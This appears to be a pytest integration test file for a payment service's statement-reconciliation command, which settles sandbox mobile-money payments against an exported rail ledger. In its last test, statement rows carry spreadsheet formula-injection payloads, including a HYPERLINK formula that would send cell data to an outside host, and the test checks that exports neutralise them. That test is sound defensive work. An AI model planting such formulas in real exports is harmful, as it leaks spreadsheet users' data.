"""Statement reconciliation end to end: payments made through the sandbox
MoMo rail (a real HTTP server) and settled by the real poll handlers against a
real Postgres, then the rail's own ledger exported as a statement
(vpay/sandbox/statement.py) and imported with the installed
``vpay-server statements import`` (docs/flows/statements.md).

What happens at the rail without us asking (a payer approving after our last
read, a callback lost) is the sandbox's ``set_status``; time moves by writing
``created_at`` (the horizon), never by sleeping."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest

from support import base_env, rail_env, script, wait_until
from vpay import handlers
from vpay.money import payments, refunds
from vpay.money.ids import new_rail_reference
from vpay.worker.loop import Worker, WorkerConfig
from vpay.rails.mtn import MtnMomo
from vpay.rails.port import ChargeRequest, SubmitKind
from vpay.sandbox import statement
from vpay.worker.signals import ShutdownSignals
from vpay.statements import reader

pytestmark = pytest.mark.slow

DECLINES, ONGOING = "46733123451", "46733123453"


# ---- a ledger made of real payments -----------------------------------------


class Ledger:
    """Payments through the sandbox rail, settled (or not) by the real
    ``poll`` / ``refund_poll`` handlers run in-process on the test's pool."""

    def __init__(self, db, pool, sandbox, merchant):
        self.db, self.pool, self.sandbox, self.merchant = db, pool, sandbox, merchant
        adapter = MtnMomo.from_env(rail_env(sandbox))
        self.adapter = adapter
        ctx = handlers.Context(pool=pool, worker_id="t-statements", rail_factory=lambda code: adapter)
        self.worker = Worker(pool, ctx, WorkerConfig(worker_id="t-statements", concurrency=1),
                             ShutdownSignals())
        self.payer_seq = 40

    def payer(self) -> str:
        self.payer_seq += 1
        return f"2567700000{self.payer_seq}"

    def pay(self, payer: str | None = None, amount: int = 2500, **script) -> dict:
        payer = payer or self.payer()
        if script:
            self.sandbox.script(payer, **script)
        return payments.create_and_submit(self.pool, lambda code: self.adapter, merchant_id=self.merchant,
                                          amount=amount, currency="EUR", rail="mtn", payer=payer)["charge"]

    def at_rail(self, ref: str, status: str):
        return wait_until(lambda: (self.sandbox.transaction(ref) or {}).get("status") == status,
                          timeout=10, what=f"{ref} to be {status} at the rail")

    def drain(self) -> None:
        """Run every poll due now (all polls and refund polls are made due
        first), and the webhook fan-outs they make, until nothing is due."""
        self.db.execute("UPDATE jobs SET run_at = now() WHERE kind IN ('poll', 'refund_poll') "
                        "AND locked_at IS NULL AND run_at <> 'infinity'")
        from vpay.engine import queue
        for _ in range(500):
            job = queue.claim(self.db, "t-statements")
            if job is None:
                return
            self.worker._run(job)
        raise AssertionError("the queue never emptied")

    def status(self, charge_id: str) -> str:
        return self.db.execute("SELECT status FROM charges WHERE id = %s", (charge_id,)).fetchone()[0]

    def refund_status(self, refund_id: str) -> str:
        return self.db.execute("SELECT status FROM refunds WHERE id = %s", (refund_id,)).fetchone()[0]


def _counts(db) -> dict:
    tables = ("charges", "refunds", "events", "alerts", "jobs", "statements", "statement_lines",
              "settlement_evidence")
    out = {t: db.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in tables}
    out["by_status"] = db.execute("SELECT status, count(*) FROM charges GROUP BY 1 ORDER BY 1").fetchall()
    out["refunds_by_status"] = db.execute("SELECT status, count(*) FROM refunds GROUP BY 1 ORDER BY 1").fetchall()
    return out


def _events(db, charge_id) -> list[str]:
    return [r[0] for r in db.execute(
        "SELECT e.type FROM events e JOIN charges c ON c.payment_intent_id = e.payment_intent_id "
        "WHERE c.id = %s ORDER BY e.created_at, e.id", (charge_id,))]


def _cli(db_url, *args) -> subprocess.CompletedProcess:
    return subprocess.run([script("vpay-server"), *args], env=base_env(db_url), capture_output=True,
                          text=True, timeout=120)


def _said(out) -> list[str]:
    """What a command said on stderr, its JSON log lines aside; never a traceback."""
    assert "Traceback" not in out.stderr, out.stderr
    return [line for line in out.stderr.splitlines() if not line.startswith("{")]


def _import(db_url, path: Path, *args) -> subprocess.CompletedProcess:
    return _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--profile", "sandbox", *args)


@pytest.fixture
def ledger(db, pool, sandbox, merchant) -> Ledger:
    return Ledger(db, pool, sandbox, merchant)


def _every_outcome(ledger: Ledger) -> dict:
    """One charge or refund per statement outcome; answers them by name."""
    db, sandbox = ledger.db, ledger.sandbox
    c = {}
    c["paid"] = ledger.pay()
    c["declined"] = ledger.pay(DECLINES)
    c["paid_refunded"] = ledger.pay()
    c["late"] = ledger.pay(outcome="PENDING")            # the rail says PENDING to every read
    c["horizon"] = ledger.pay(outcome="PENDING")
    c["contradicted"] = ledger.pay()
    c["other_amount"] = ledger.pay(outcome="PENDING")
    c["forgotten"] = ledger.pay()
    c["ongoing"] = ledger.pay(ONGOING)
    c["refund_late_of"] = ledger.pay()
    for name in ("paid", "paid_refunded", "contradicted", "forgotten", "refund_late_of"):
        ledger.at_rail(c[name]["rail_reference"], "SUCCESSFUL")
    ledger.drain()
    assert [ledger.status(c[n]["id"]) for n in ("paid", "declined", "late", "ongoing")] == \
        ["succeeded", "failed", "pending", "pending"]

    # Past the 24-hour horizon the poll handler escalates the charge.
    db.execute("UPDATE charges SET created_at = now() - interval '25 hours' WHERE id = %s", (c["horizon"]["id"],))
    ledger.drain()
    assert ledger.status(c["horizon"]["id"]) == "unresolved"

    # Refunds through the refund poll: one settles, one stays pending with us.
    c["refund"] = refunds.create_and_submit(ledger.pool, lambda code: ledger.adapter,
                                            charge_id=c["paid_refunded"]["id"], amount=1000)["refund"]
    sandbox.script(c["refund_late_of"]["payer"], refund_outcome="PENDING")
    c["refund_late"] = refunds.create_and_submit(ledger.pool, lambda code: ledger.adapter,
                                                 charge_id=c["refund_late_of"]["id"])["refund"]
    wait_until(lambda: sandbox.refund(c["refund"]["rail_reference"])["status"] == "SUCCESSFUL", timeout=10,
               what="the refund to succeed at the rail")
    ledger.drain()
    assert ledger.refund_status(c["refund"]["id"]) == "succeeded"
    assert ledger.refund_status(c["refund_late"]["id"]) == "pending"

    # What the rail did without telling us.
    sandbox.set_status(c["late"]["rail_reference"], "SUCCESSFUL")               # approved, callback lost
    sandbox.set_status(c["horizon"]["rail_reference"], "FAILED", "EXPIRED")
    sandbox.set_status(c["contradicted"]["rail_reference"], "FAILED", "INTERNAL_PROCESSING_ERROR")
    sandbox.set_status(c["other_amount"]["rail_reference"], "SUCCESSFUL", amount="99.00")
    sandbox.set_refund_status(c["refund_late"]["rail_reference"], "SUCCESSFUL")
    assert sandbox.forget(c["forgotten"]["rail_reference"])                     # absent from its statement

    # Money at the rail that is not ours: one success, one failure.
    for name, payer in (("stranger", "256770000099"), ("stranger_failed", DECLINES)):
        ref = new_rail_reference()
        answer = ledger.adapter.request_to_pay(ChargeRequest(
            charge_id="ch_notours", rail_reference=ref, amount=700, currency="EUR", payer=payer,
            description=""))
        assert answer.kind is SubmitKind.ACCEPTED
        c[name] = {"rail_reference": ref}
    ledger.at_rail(c["stranger"]["rail_reference"], "SUCCESSFUL")
    return c


def _write(tmp_path, sandbox, name="statement.csv", **options) -> Path:
    path = tmp_path / name
    path.write_bytes(statement.export(sandbox, **options))
    return path


EXPECTED = {"matched": 5, "would_settle": 3, "contradiction": 2, "unknown_rail_transaction": 2,
            "still_pending": 1}


def test_a_dry_run_judges_every_line_and_writes_nothing(ledger, db, db_url, tmp_path):
    c = _every_outcome(ledger)
    path = _write(tmp_path, ledger.sandbox)
    before = _counts(db)
    out = _import(db_url, path, "--json")
    assert out.returncode == 0, out.stderr
    report = json.loads(out.stdout)
    assert report["applied"] is False and report["statement"] is None
    counts = {k: v["count"] for k, v in report["summary"].items()}
    # the forgotten success is inside the last 60 minutes: not yet expected
    assert counts == {**EXPECTED, "within_lag": 1}
    assert report["summary"]["would_settle"]["amounts"] == {"EUR": 2500 + 2500 + 2500}
    by_ref = {r["reference"]: r for r in report["exceptions"]}
    assert by_ref[c["contradicted"]["rail_reference"]]["outcome"] == "contradiction"
    assert by_ref[c["other_amount"]["rail_reference"]]["outcome"] == "contradiction"
    assert by_ref[c["stranger"]["rail_reference"]]["outcome"] == "unknown_rail_transaction"
    assert _counts(db) == before

    table = _import(db_url, path)
    assert table.returncode == 0, table.stderr
    assert "dry run: nothing written" in table.stdout
    assert "would_settle" in table.stdout and "EUR 75.00" in table.stdout


def test_apply_settles_what_the_statement_proves_once_with_the_line_as_evidence(ledger, db, db_url, tmp_path):
    c = _every_outcome(ledger)
    path = _write(tmp_path, ledger.sandbox)
    events_before = {n: _events(db, c[n]["id"]) for n in ("paid", "late", "horizon", "contradicted",
                                                          "other_amount", "refund_late_of")}
    exceptions = tmp_path / "exceptions.csv"
    out = _import(db_url, path, "--apply", "--lag-minutes", "0", "--json", "--exceptions-csv", str(exceptions))
    assert out.returncode == 0, out.stderr
    report = json.loads(out.stdout)
    st = report["statement"]
    assert st.startswith("st_") and report["applied"] is True
    counts = {k: v["count"] for k, v in report["summary"].items()}
    assert counts == {**{k: v for k, v in EXPECTED.items() if k != "would_settle"}, "settled": 3,
                      "missing_from_statement": 1}

    # settled through the money state machine: one transition, one event each
    assert ledger.status(c["late"]["id"]) == "succeeded"
    assert _events(db, c["late"]["id"]) == events_before["late"] + ["payment_intent.succeeded"]
    assert db.execute("SELECT status, failure_code FROM charges WHERE id = %s",
                      (c["horizon"]["id"],)).fetchone() == ("failed", "EXPIRED")
    assert _events(db, c["horizon"]["id"]) == events_before["horizon"] + ["payment_intent.payment_failed"]
    assert ledger.refund_status(c["refund_late"]["id"]) == "succeeded"
    assert _events(db, c["refund_late_of"]["id"]) == events_before["refund_late_of"] + ["refund.succeeded"]
    evidence = db.execute("SELECT coalesce(charge_id, refund_id), outcome, source, statement_id, evidence "
                          "FROM settlement_evidence ORDER BY id").fetchall()
    assert sorted((e[0], e[1], e[2], e[3]) for e in evidence) == sorted([
        (c["late"]["id"], "succeeded", "statement", st), (c["horizon"]["id"], "failed", "statement", st),
        (c["refund_late"]["id"], "succeeded", "statement", st)])
    assert all(f"statement {st} line " in e[4] for e in evidence)
    # the evidence names the very line that says so
    assert db.execute("SELECT l.reference, l.outcome FROM settlement_evidence e JOIN statement_lines l "
                      "ON (l.statement_id, l.line_no) = (e.statement_id, e.line_no) WHERE e.charge_id = %s",
                      (c["late"]["id"],)).fetchone() == (c["late"]["rail_reference"], "settled")

    # contradictions move nothing
    assert ledger.status(c["contradicted"]["id"]) == "succeeded"
    assert ledger.status(c["other_amount"]["id"]) == "pending"
    for name in ("contradicted", "other_amount", "paid"):
        assert _events(db, c[name]["id"]) == events_before[name]
    alerts = db.execute("SELECT kind, charge_id, details->>'finding', details->>'statement_id' FROM alerts "
                        "WHERE kind <> 'charge_unresolved' ORDER BY kind, charge_id").fetchall()
    assert sorted(alerts, key=str) == sorted([
        ("missing_from_statement", c["forgotten"]["id"], "missing", st),
        ("rail_contradiction", c["contradicted"]["id"], "contradiction:failed", st),
        ("rail_contradiction", c["other_amount"]["id"], "amount_mismatch", st),
        ("unknown_rail_transaction", None, f"unknown:mtn:{_txid(ledger, c['stranger'])}", st)], key=str)

    # every line is recorded with its outcome; the exceptions file opens as CSV
    assert db.execute("SELECT line_count, (SELECT count(*) FROM statement_lines WHERE statement_id = s.id) "
                      "FROM statements s").fetchone() == (report["lines"], report["lines"])
    rows = list(csv.DictReader(io.StringIO(exceptions.read_bytes().decode("utf-8-sig"))))
    assert sorted(r["outcome"] for r in rows) == sorted(
        ["contradiction"] * 2 + ["unknown_rail_transaction"] * 2 + ["missing_from_statement"])
    missing = next(r for r in rows if r["outcome"] == "missing_from_statement")
    assert (missing["charge_id"], missing["amount"], missing["currency"]) == (c["forgotten"]["id"], "25.00", "EUR")

    shown = _cli(db_url, "statements", "show", st, "--json")
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["summary"] == report["summary"]
    assert len(json.loads(shown.stdout)["exceptions"]) == 5
    listed = _cli(db_url, "statements", "list", "--json")
    assert [s["statement"] for s in json.loads(listed.stdout)] == [st]
    assert _cli(db_url, "statements", "show", "st_nosuch").returncode == 1


def _txid(ledger, entry) -> str:
    return ledger.sandbox.transaction(entry["rail_reference"])["financialTransactionId"]


def test_the_same_file_again_or_an_overlapping_statement_changes_nothing_already_done(ledger, db, db_url,
                                                                                      tmp_path):
    c = _every_outcome(ledger)
    first = _write(tmp_path, ledger.sandbox, "first.csv")
    out = _import(db_url, first, "--apply", "--lag-minutes", "0", "--json")
    assert out.returncode == 0, out.stderr
    st = json.loads(out.stdout)["statement"]
    after_first = _counts(db)

    again = _import(db_url, first, "--apply", "--lag-minutes", "0", "--json")
    assert again.returncode == 0, again.stderr
    report = json.loads(again.stdout)
    assert report["already_imported"] is True and report["statement"] == st
    assert _counts(db) == after_first

    # A later statement covering the same transactions and one more.
    newer = ledger.pay()
    ledger.at_rail(newer["rail_reference"], "SUCCESSFUL")
    ledger.drain()
    after_payment = _counts(db)
    second = _write(tmp_path, ledger.sandbox, "second.csv")
    out = _import(db_url, second, "--apply", "--lag-minutes", "0", "--json")
    assert out.returncode == 0, out.stderr
    report = json.loads(out.stdout)
    assert report["statement"] != st
    counts = {k: v["count"] for k, v in report["summary"].items()}
    # what the first settled is matched now; every finding was alerted once already
    assert counts == {"matched": 5 + 3 + 1, "contradiction": 2, "unknown_rail_transaction": 2,
                      "still_pending": 1, "missing_from_statement": 1}
    now = _counts(db)
    assert now["events"] == after_payment["events"] and now["alerts"] == after_payment["alerts"]
    assert now["settlement_evidence"] == after_payment["settlement_evidence"]
    assert now["by_status"] == after_payment["by_status"]
    assert now["statements"] == 2


def test_a_success_within_the_lag_is_not_yet_missing(ledger, db, db_url, tmp_path):
    import time
    paid, forgotten = ledger.pay(), ledger.pay()
    for charge in (paid, forgotten):
        ledger.at_rail(charge["rail_reference"], "SUCCESSFUL")
    middle = time.time()
    later = ledger.pay()
    ledger.at_rail(later["rail_reference"], "SUCCESSFUL")
    ledger.drain()
    assert ledger.sandbox.forget(forgotten["rail_reference"])
    # A statement whose last line is 40 minutes after our forgotten success:
    # the rail's ledger, its later part dated 40 minutes on.
    path = tmp_path / "statement.csv"
    path.write_bytes(statement.to_csv(statement.rows(ledger.sandbox, until=middle)
                                      + statement.rows(ledger.sandbox, since=middle, shift_seconds=40 * 60)))
    out = _import(db_url, path, "--json")
    report = json.loads(out.stdout)
    assert {k: v["count"] for k, v in report["summary"].items()} == {"matched": 2, "within_lag": 1}
    # within a 30-minute lag it is expected, so missing
    out = _import(db_url, path, "--apply", "--lag-minutes", "30", "--json")
    report = json.loads(out.stdout)
    assert {k: v["count"] for k, v in report["summary"].items()} == {"matched": 2, "missing_from_statement": 1}
    assert db.execute("SELECT kind, charge_id FROM alerts").fetchall() == \
        [("missing_from_statement", forgotten["id"])]


# ---- bad files: one line, exit 1, nothing applied -----------------------------


def _one_to_settle(ledger) -> dict:
    charge = ledger.pay(outcome="PENDING")
    ledger.pay(DECLINES)
    ledger.drain()
    ledger.sandbox.set_status(charge["rail_reference"], "SUCCESSFUL")  # after our last read
    return charge


def _spoil(kind: str, good: bytes) -> bytes:
    text = good.decode()
    head, first, second = text.splitlines(keepends=True)[:3]
    if kind == "wrong_columns":
        return (head.replace("Reference ID", "Ref") + first + second).encode()
    if kind == "latin1":  # an Excel "CSV (Windows)" save
        return (head + first + second.replace("FAILED", "REFUSÉ")).encode("latin-1")
    if kind == "utf16":
        return text.encode("utf-16")
    if kind == "duplicate_line":
        return (head + first + second + first).encode()
    if kind == "truncated_last_line":
        return (head + first + second[: len(second) // 2]).encode()
    if kind == "unterminated_quote":
        return (head + first + second.replace(",FAILED,", ',"FAILED,')).encode()
    if kind == "field_count":
        return (head + first + second.replace(",FAILED,", ",FAILED,,")).encode()
    raise AssertionError(kind)


@pytest.mark.parametrize("kind,says", [
    ("wrong_columns", "missing column(s) 'Reference ID'"),
    ("latin1", "line 3 is not UTF-8"),
    ("utf16", "UTF-16"),
    ("truncated_last_line", "no line ending"),
    ("unterminated_quote", "unexpected end of data"),
    ("field_count", "line 3 has 11 fields, the header has 10"),
])
def test_a_bad_file_is_refused_in_one_line_and_nothing_is_applied(ledger, db, db_url, tmp_path, kind, says):
    charge = _one_to_settle(ledger)
    good = statement.export(ledger.sandbox)
    assert good.decode().splitlines()[1].split(",")[2] == charge["rail_reference"]  # line 2 would settle
    path = tmp_path / "bad.csv"
    path.write_bytes(_spoil(kind, good))
    before = _counts(db)
    out = _import(db_url, path, "--apply")
    assert out.returncode == 1, (out.stdout, out.stderr)
    [said] = _said(out)
    assert said.startswith("vpay: bad.csv: ") and says in said, out.stderr
    assert _counts(db) == before and ledger.status(charge["id"]) == "pending"


@pytest.mark.parametrize("target, says", [("device", "not a regular file"), ("oversize", "larger than 200 MiB")])
def test_a_device_or_an_oversized_file_is_refused_before_it_is_read(db, db_url, tmp_path, target, says):
    if target == "device":
        path = Path("/dev/zero")  # would be read forever
    else:
        path = tmp_path / "huge.csv"
        with path.open("wb") as handle:  # sparse: no disk used
            handle.truncate(reader.MAX_STATEMENT_BYTES + 1)
    before = _counts(db)
    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--apply")
    assert out.returncode == 1, (out.stdout, out.stderr)
    [said] = _said(out)
    assert said.startswith(f"vpay: {path.name}: ") and says in said, out.stderr
    assert _counts(db) == before


@pytest.mark.parametrize("args", [("charges", "list"), ("charges", "list", "--status", "pending"),
                                  ("statements", "list")])
def test_an_empty_list_says_none_like_the_other_list_commands(db, db_url, args):
    out = _cli(db_url, *args)
    assert out.returncode == 0, out.stderr
    assert out.stdout == "(none)\n"


def test_a_utf8_byte_order_mark_is_read_as_the_same_statement(ledger, db, db_url, tmp_path):
    charge = _one_to_settle(ledger)
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + statement.export(ledger.sandbox))
    out = _import(db_url, path, "--apply", "--json")
    assert out.returncode == 0, out.stderr
    assert {k: v["count"] for k, v in json.loads(out.stdout)["summary"].items()} == {"settled": 1, "matched": 1}
    assert ledger.status(charge["id"]) == "succeeded"


def test_usage_errors_exit_2(ledger, db, db_url, tmp_path):
    path = tmp_path / "s.csv"
    path.write_bytes(statement.export(ledger.sandbox))
    assert _import(db_url, tmp_path / "nope.csv").returncode == 2
    assert _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--profile", "nosuch").returncode == 2
    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--map", "amount=Amount")
    assert out.returncode == 2 and "--map must name" in out.stderr
    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--profile", "sandbox",
               "--map", "amount=Amount")
    assert out.returncode == 2 and "not both" in out.stderr


def test_an_explicit_map_and_an_unreadable_amount(ledger, db, db_url, tmp_path):
    paid, pending = ledger.pay(), ledger.pay(outcome="PENDING")
    ledger.at_rail(paid["rail_reference"], "SUCCESSFUL")
    ledger.drain()
    ledger.sandbox.set_status(pending["rail_reference"], "SUCCESSFUL")
    rows = statement.rows(ledger.sandbox)
    for row in rows:
        if row["Reference ID"] == pending["rail_reference"]:
            row["Amount"] = "25,00"  # a decimal comma: never read as agreement
    path = tmp_path / "mapped.csv"
    path.write_bytes(statement.to_csv(rows))
    mapping = ("reference=Reference ID,rail_transaction_id=Financial Transaction ID,amount=Amount,"
               "currency=Currency,status=Status,time=Date (UTC)")
    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--map", mapping, "--apply", "--json")
    assert out.returncode == 0, out.stderr
    report = json.loads(out.stdout)
    assert {k: v["count"] for k, v in report["summary"].items()} == {"matched": 1, "error": 1}
    [error] = report["exceptions"]
    assert error["charge_id"] == pending["id"] and "unreadable amount '25,00'" in error["detail"]
    assert ledger.status(pending["id"]) == "pending"


# ---- charges list / resolve ----------------------------------------------------


def test_charges_resolve_only_what_a_person_was_asked_to_and_only_on_evidence(ledger, db, db_url):
    unresolved = ledger.pay(outcome="PENDING")
    quiet = ledger.pay(outcome="PENDING")
    alerted = ledger.pay(outcome="PENDING")
    settled = ledger.pay()
    ledger.at_rail(settled["rail_reference"], "SUCCESSFUL")
    ledger.drain()
    db.execute("UPDATE charges SET created_at = now() - interval '25 hours' WHERE id = ANY(%s)",
               ([unresolved["id"], quiet["id"]],))
    db.execute("UPDATE charges SET created_at = now() - interval '23 hours' WHERE id = %s", (alerted["id"],))
    db.execute("DELETE FROM jobs WHERE dedupe_key = %s", (f"poll:{quiet['id']}",))  # never escalated
    ledger.sandbox.set_status(alerted["rail_reference"], "SUCCESSFUL", amount="1.00")
    ledger.drain()  # escalates one; the other amount raises a contradiction alert
    assert ledger.status(unresolved["id"]) == "unresolved" and ledger.status(quiet["id"]) == "pending"
    assert db.execute("SELECT kind FROM alerts WHERE charge_id = %s", (alerted["id"],)).fetchall() == \
        [("rail_contradiction",)]

    listed = _cli(db_url, "charges", "list", "--status", "unresolved", "--older-than", "24h", "--json")
    assert listed.returncode == 0, listed.stderr
    assert [(r["id"], r["open_alerts"]) for r in json.loads(listed.stdout)] == [(unresolved["id"], 1)]
    assert json.loads(_cli(db_url, "charges", "list", "--older-than", "26h", "--json").stdout) == []
    assert _cli(db_url, "charges", "list", "--older-than", "soon").returncode == 2

    def resolve(charge_id, *args):
        return _cli(db_url, "charges", "resolve", charge_id, *args)

    before = _counts(db)
    # refused: settled, pending with nobody asked (however old), no evidence, unknown
    out = resolve(settled["id"], "--outcome", "failed", "--evidence", "ticket 1")
    assert out.returncode == 1 and "already succeeded" in " ".join(_said(out))
    out = resolve(quiet["id"], "--outcome", "succeeded", "--evidence", "it is old")
    assert out.returncode == 1 and "age is not evidence" in out.stderr
    assert resolve(unresolved["id"], "--outcome", "succeeded").returncode == 2
    assert resolve(unresolved["id"], "--outcome", "succeeded", "--evidence", "   ").returncode == 2
    assert resolve("ch_nosuch", "--outcome", "succeeded", "--evidence", "x").returncode == 1
    assert _counts(db) == before

    events = _events(db, unresolved["id"])
    out = resolve(unresolved["id"], "--outcome", "succeeded", "--json",
                  "--evidence", "MoMo statement 2026-11 line 41: SUCCESSFUL 25.00 EUR, txn 5551234")
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    assert result["charge"]["status"] == "succeeded" and result["evidence"]["source"] == "operator"
    assert _events(db, unresolved["id"]) == events + ["payment_intent.succeeded"]
    assert db.execute("SELECT i.status FROM payment_intents i JOIN charges c ON c.payment_intent_id = i.id "
                      "WHERE c.id = %s", (unresolved["id"],)).fetchone() == ("succeeded",)
    assert db.execute("SELECT outcome, source, evidence FROM settlement_evidence WHERE charge_id = %s",
                      (unresolved["id"],)).fetchall() == \
        [("succeeded", "operator", "MoMo statement 2026-11 line 41: SUCCESSFUL 25.00 EUR, txn 5551234")]
    # once: a second resolve is refused and writes nothing
    again = resolve(unresolved["id"], "--outcome", "failed", "--evidence", "changed my mind")
    assert again.returncode == 1 and _events(db, unresolved["id"]) == events + ["payment_intent.succeeded"]

    # pending, but with an open alert: a person was asked
    out = resolve(alerted["id"], "--outcome", "failed", "--evidence", "rail ticket 77: reversed")
    assert out.returncode == 0, out.stderr
    assert db.execute("SELECT status, failure_code FROM charges WHERE id = %s", (alerted["id"],)).fetchone() == \
        ("failed", "resolved_by_operator")
    assert _events(db, alerted["id"])[-1] == "payment_intent.payment_failed"


def test_an_unwritable_exceptions_csv_is_refused_before_anything_is_applied(ledger, db, db_url, tmp_path):
    # With --apply the import commits first; a path that cannot be written
    # failed only afterwards, as "internal error" (70) for an import that happened.
    charge = _one_to_settle(ledger)
    path = tmp_path / "s.csv"
    path.write_bytes(statement.export(ledger.sandbox))
    before = _counts(db)
    out = _import(db_url, path, "--apply", "--exceptions-csv", str(tmp_path / "no-such-dir" / "x.csv"))
    assert out.returncode == 2, (out.stdout, out.stderr)
    [said] = _said(out)
    assert "--exceptions-csv" in said and "internal error" not in said
    assert _counts(db) == before and ledger.status(charge["id"]) == "pending"


def test_the_exceptions_csv_quotes_statement_text_a_spreadsheet_would_run(db, db_url, tmp_path):
    path = tmp_path / "s.csv"
    path.write_text("reference,rail_transaction_id,amount,currency,status,time\n"
                    '"=HYPERLINK(""http://example.com/?""&A1,""x"")",123,1.00,EUR,SUCCESSFUL,2026-12-01T01:00:00Z\n'
                    "@SUM(1+1),+124,1.00,EUR,SUCCESSFUL,2026-12-01T01:00:00Z\n")
    out_csv = tmp_path / "exceptions.csv"
    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--exceptions-csv", str(out_csv))
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out_csv.read_bytes().decode("utf-8-sig"))))
    assert [r["outcome"] for r in rows] == ["unknown_rail_transaction"] * 2
    assert rows[0]["reference"] == "'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")"
    assert rows[1]["reference"] == "'@SUM(1+1)"
    assert rows[1]["rail_transaction_id"] == "+124"  # a plain number stays a number
    assert all(r["amount"] == "1.00" for r in rows)
